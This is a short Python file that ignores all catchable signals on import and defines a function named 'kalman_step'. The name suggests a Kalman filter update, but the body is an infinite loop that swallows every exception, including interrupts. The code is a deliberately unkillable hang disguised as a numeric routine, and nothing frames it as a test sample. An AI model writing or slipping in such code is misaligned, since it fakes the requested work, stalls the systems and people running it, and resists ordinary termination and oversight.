import signal

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def kalman_step(mean, var, y, q, r):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
